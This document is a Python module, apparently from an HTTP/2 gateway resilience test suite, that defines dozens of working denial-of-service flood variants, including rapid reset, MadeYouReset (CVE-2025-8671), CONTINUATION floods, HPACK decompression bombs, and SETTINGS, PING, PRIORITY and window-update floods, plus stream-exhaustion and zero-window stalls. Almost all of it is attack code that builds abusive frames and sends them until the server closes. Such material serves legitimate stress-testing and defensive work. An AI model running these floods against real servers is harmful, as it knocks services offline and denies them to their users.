"""The thirteen floods of HTTP/2, each in several variants: what an attacker sends until the gateway has had enough.

Each variant gets a connection that has said its preface, and sends as fast as it can, within the windows where DATA
is concerned; it comes back when the gateway has closed or everything was sent.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from . import frames
from .connection import Connection
from .fields import LiteralEncoder, integer, literal, text

AUTHORITY = b"app.example.org"
FRAMES_AT_MOST = 200_000
BATCH = 500
STREAMS_AT_MOST = 20_000
PINGS_SECONDS = 40.0
ENDS = frames.END_HEADERS | frames.END_STREAM


@dataclass(frozen=True)
class Flood:
    """One way to flood."""

    name: str
    variant: str
    attack: Callable[[Connection], None]


def block(target: str = "/public/held", method: bytes = b"GET", *more: tuple[bytes, bytes]) -> bytes:
    """A request's fields."""
    return LiteralEncoder().encode([
        (b":method", method), (b":scheme", b"https"), (b":authority", AUTHORITY), (b":path", target.encode()), *more])


def ask(stream: int, target: str = "/public/held") -> bytes:
    """A whole request."""
    return frames.frame(frames.HEADERS, ENDS, stream, block(target))


def begin(stream: int, target: str = "/public/held", *more: tuple[bytes, bytes]) -> bytes:
    """A request whose body is still to come."""
    return frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block(target, b"POST", *more))


def pour(connection: Connection, pieces: Iterator[bytes], reads: bool = True) -> None:
    """Sends batch after batch until they end or the gateway has closed."""
    for piece in pieces:
        if reads:
            connection.receive(0)
        if connection.seen.ending != "open" or not connection.push(piece, reads):
            return


def again(piece: bytes, count: int = FRAMES_AT_MOST) -> Iterator[bytes]:
    """The same frame so often."""
    batch = piece * BATCH
    return (batch for _ in range(count // BATCH))


def streams(made: Callable[[int], bytes], count: int = STREAMS_AT_MOST, batch: int = 20) -> Iterator[bytes]:
    """Something on stream after stream."""
    for start in range(0, count, batch):
        yield b"".join(made(2 * number + 1) for number in range(start, start + batch))


def repeated(piece: bytes, first: bytes = b"", count: int = FRAMES_AT_MOST, reads: bool = True
             ) -> Callable[[Connection], None]:
    """An attack that begins with `first` and repeats one frame."""
    def attack(connection: Connection) -> None:
        connection.push(first)
        pour(connection, again(piece, count), reads)
    return attack


def on_streams(made: Callable[[int], bytes], batch: int = 20) -> Callable[[Connection], None]:
    """An attack that does the same on stream after stream."""
    return lambda connection: pour(connection, streams(made, batch=batch))


def all_opened_then_reset(connection: Connection) -> None:
    """Opens fifty, then resets the fifty."""
    def pieces() -> Iterator[bytes]:
        for start in range(0, STREAMS_AT_MOST, 50):
            numbers = [2 * number + 1 for number in range(start, start + 50)]
            yield b"".join(ask(number) for number in numbers) + b"".join(frames.rst_stream(each) for each in numbers)
    pour(connection, pieces())


def body_in(piece: bytes) -> Callable[[Connection], None]:
    """Repeats a DATA frame on an open request, within the windows."""
    size = len(piece) - frames.HEAD_BYTES

    def attack(connection: Connection) -> None:
        connection.push(begin(1))
        for _ in range(FRAMES_AT_MOST // BATCH):
            connection.receive(0)
            fits = BATCH if size == 0 else min(BATCH, connection.room(1) // size)
            if fits == 0 and not connection.read_until(lambda _: connection.room(1) >= size):
                return
            if connection.seen.ending != "open" or not connection.push(piece * fits):
                return
            connection.count_data(1, fits * size)
    return attack


def window_toggled(connection: Connection) -> None:
    """Moves the windows of a hundred open streams to and fro."""
    small, large = (frames.settings([(4, size)]) for size in (1, 65_535))
    pour(connection, streams(begin, 50, 50))
    pour(connection, again(small + large))


def bomb(entry_bytes: int, times: int) -> Callable[[int], bytes]:
    """A block that makes one entry of the table and names it again and again (RFC 7541 §7.1)."""
    entry = b"\x40" + text(b"x") + text(b"a" * entry_bytes)
    return lambda number: frames.frame(frames.HEADERS, ENDS, number, block() + entry + integer(62, 7, 0x80) * times)


def crumbs(number: int) -> bytes:
    """A cookie in crumbs of nothing: one byte each on the wire."""
    entry = b"\x60" + text(b"a=b")
    return frames.frame(frames.HEADERS, ENDS, number, block() + entry + integer(62, 7, 0x80) * 12_000)


def resized(number: int) -> bytes:
    """Ten thousand changes of the table's size before the fields."""
    return frames.frame(frames.HEADERS, ENDS, number, b"\x20\x3f\xe1\x1f" * 4000 + block())


def dribble(connection: Connection) -> None:
    """Asks for much and opens the window by one byte at a time."""
    connection.opens_windows = False
    connection.push(frames.settings([(4, 1)]) + ask(1, "/public/endless"))
    pour(connection, again(frames.window_update(1, 1) + frames.window_update(0, 1)))


def shut_windows(connection: Connection) -> None:
    """Asks for much on many streams, and opens no window."""
    connection.opens_windows = False
    connection.push(frames.settings([(4, 0)]))
    pour(connection, streams(lambda number: ask(number, "/public/endless"), 40))


def ping_on(connection: Connection) -> None:
    """PING now and then, so that something always comes."""
    until = time.monotonic() + PINGS_SECONDS
    while connection.seen.ending == "open" and time.monotonic() < until and connection.push(frames.ping()):
        connection.receive(0.2)


def shut_windows_with_pings(connection: Connection) -> None:
    """The same, and PING now and then."""
    shut_windows(connection)
    ping_on(connection)


def bodies_never_ending(connection: Connection) -> None:
    """Opens as many requests as it may, and sends no body."""
    pour(connection, streams(begin, 40))


def bodies_with_pings(connection: Connection) -> None:
    """The same, and PING now and then."""
    bodies_never_ending(connection)
    ping_on(connection)


def made_reset(fault: Callable[[int], bytes], whole: bool = True) -> Callable[[Connection], None]:
    """MadeYouReset (CVE-2025-8671): a right request, then what makes the gateway reset it."""
    return on_streams(lambda number: (ask(number) if whole else begin(number)) + fault(number))


UNENDED = frames.frame(frames.HEADERS, frames.END_STREAM, 1, block())
CONTINUED = frames.frame(frames.CONTINUATION, 0, 1, literal(b"x", b"a"))
EMPTY_DATA = frames.frame(frames.DATA, 0, 1)

FLOODS = [
    Flood("rapid reset", "request and reset", on_streams(lambda number: ask(number) + frames.rst_stream(number))),
    Flood("rapid reset", "beginning and reset", on_streams(lambda number: begin(number) + frames.rst_stream(number))),
    Flood("rapid reset", "fifty at a time", all_opened_then_reset),
    Flood("rapid reset", "without an error",
          on_streams(lambda number: ask(number) + frames.rst_stream(number, "NO_ERROR"))),
    Flood("made you reset", "window of zero", made_reset(lambda number: frames.window_update(number, 0))),
    Flood("made you reset", "window too large", made_reset(lambda number: frames.window_update(number, (1 << 31) - 1))),
    Flood("made you reset", "data after the end", made_reset(lambda number: frames.frame(0, 1, number, b"x"))),
    Flood("made you reset", "fields after the end", made_reset(lambda number: frames.frame(1, 5, number, b"\x82"))),
    Flood("made you reset", "priority too short", made_reset(lambda number: frames.frame(2, 0, number, b"\0" * 4))),
    Flood("made you reset", "own parent",
          made_reset(lambda number: frames.frame(2, 0, number, frames.priority(number, 1)))),
    Flood("made you reset", "bad trailers",
          made_reset(lambda number: frames.frame(1, 5, number, literal(b"X-Upper", b"a")), whole=False)),
    Flood("made you reset", "more than its length",
          on_streams(lambda number: begin(number, "/public/held", (b"content-length", b"1"))
                     + frames.frame(0, 1, number, b"xx"))),
    Flood("malformed requests", "no path",
          on_streams(lambda number: frames.frame(1, 5, number, LiteralEncoder().encode([(b":method", b"GET")])))),
    Flood("continuation", "small fields", repeated(CONTINUED, UNENDED)),
    Flood("continuation", "empty", repeated(frames.frame(frames.CONTINUATION, 0, 1), UNENDED)),
    Flood("continuation", "large fields",
          repeated(frames.frame(frames.CONTINUATION, 0, 1, literal(b"x", b"a" * 16_000)), UNENDED, 3000)),
    Flood("hpack bomb", "one entry named often", on_streams(bomb(3900, 12_000), batch=1)),
    Flood("hpack bomb", "small entry named often", on_streams(bomb(1, 16_000), batch=1)),
    Flood("hpack bomb", "crumbs", on_streams(crumbs, batch=1)),
    Flood("hpack bomb", "table resized", on_streams(resized, batch=1)),
    Flood("settings", "empty", repeated(frames.settings())),
    Flood("settings", "many values", repeated(frames.settings([(6, 1 << 16)] * 100), count=50_000)),
    Flood("settings", "windows to and fro", window_toggled),
    Flood("settings", "tables to and fro", repeated(frames.settings([(1, 0)]) + frames.settings([(1, 4096)]))),
    Flood("settings", "acknowledgements", repeated(frames.settings(is_ack=True))),
    Flood("settings", "nobody reads", repeated(frames.settings(), reads=False)),
    Flood("ping", "questions", repeated(frames.ping())),
    Flood("ping", "answers", repeated(frames.ping(is_ack=True))),
    Flood("ping", "nobody reads", repeated(frames.ping(), reads=False)),
    Flood("empty frames", "data", body_in(EMPTY_DATA)),
    Flood("empty frames", "data with a pad length", body_in(frames.frame(frames.DATA, frames.PADDED, 1, b"\0"))),
    Flood("padded data", "padding alone",
          body_in(frames.frame(frames.DATA, frames.PADDED, 1, frames.padded(b"", 255)))),
    Flood("padded data", "one byte and padding",
          body_in(frames.frame(frames.DATA, frames.PADDED, 1, frames.padded(b"x", 255)))),
    Flood("priority", "idle streams", lambda connection: pour(connection, streams(
        lambda number: frames.frame(frames.PRIORITY, 0, number, frames.priority(0, 1)), FRAMES_AT_MOST, BATCH))),
    Flood("priority", "one stream", repeated(frames.frame(frames.PRIORITY, 0, 1, frames.priority(0, 1)), begin(1))),
    Flood("priority", "updates", repeated(frames.frame(0x10, 0, 0, b"\0\0\0\1u=1"), ask(1))),
    Flood("window update", "connection", repeated(frames.window_update(0, 1))),
    Flood("window update", "stream", repeated(frames.window_update(1, 1), begin(1))),
    Flood("unknown frames", "empty", repeated(frames.frame(0x4D))),
    Flood("unknown frames", "large", repeated(frames.frame(0x4D, 0xFF, 0, b"u" * 16_000), count=10_000)),
    Flood("unknown frames", "on a stream", repeated(frames.frame(0x4D, 0, 1, b"u"), begin(1))),
    Flood("unknown frames", "alternative services", repeated(frames.frame(0x0A, 0, 0, b"\0\0h2"))),
    Flood("tiny windows", "a byte at a time", dribble),
    Flood("tiny windows", "shut", shut_windows),
    Flood("tiny windows", "shut, with pings", shut_windows_with_pings),
    Flood("streams held open", "more than allowed", on_streams(ask)),
    Flood("streams held open", "bodies to come, more than allowed", on_streams(begin)),
    Flood("streams held open", "bodies never ending", bodies_never_ending),
    Flood("streams held open", "bodies never ending, with pings", bodies_with_pings),
]
